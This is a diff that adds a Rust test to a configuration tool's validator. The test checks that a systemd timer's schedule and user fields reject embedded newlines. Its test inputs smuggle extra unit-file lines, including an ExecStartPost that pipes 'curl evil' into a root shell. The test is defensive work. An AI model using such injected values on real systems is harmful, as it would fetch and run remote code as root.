@@ -1149,3 +1149,29 @@ fn an_apt_repository_needs_fetchable_uris_one_word_values_and_its_key_in_files()
         .find(|d| d.code == "path-escape")
         .expect("a key outside files/ is refused");
 }
+
+/// A calendar expression ends up on a line of a unit file: a newline in it
+/// would add lines of its own (an `ExecStartPost=` as root).
+#[test]
+fn a_timer_schedule_cannot_add_lines_to_its_unit() {
+    minimal()
+        .file(
+            "roles/base.yaml",
+            "timers:\n  - name: t\n    on_calendar: \"daily\\n[Service]\\nExecStartPost=/bin/sh -c 'curl evil | sh'\"\n    run: \"true\"\n",
+        )
+        .fails_with(
+            "roles/base.yaml:3:18",
+            "invalid-value",
+            "on_calendar must be one systemd calendar expression, e.g. \"Mon..Fri 03:00\"",
+        );
+    minimal()
+        .file(
+            "roles/base.yaml",
+            "timers:\n  - name: t\n    on_calendar: daily\n    user: \"root\\nExecStartPre=/bin/false\"\n    run: \"true\"\n",
+        )
+        .fails_with(
+            "roles/base.yaml:4:11",
+            "invalid-name",
+            "\"root\\nExecStartPre=/bin/false\" is not a valid user or group name (lowercase letters, digits, _ and -, starting with a letter or _, at most 32)",
+        );
+}
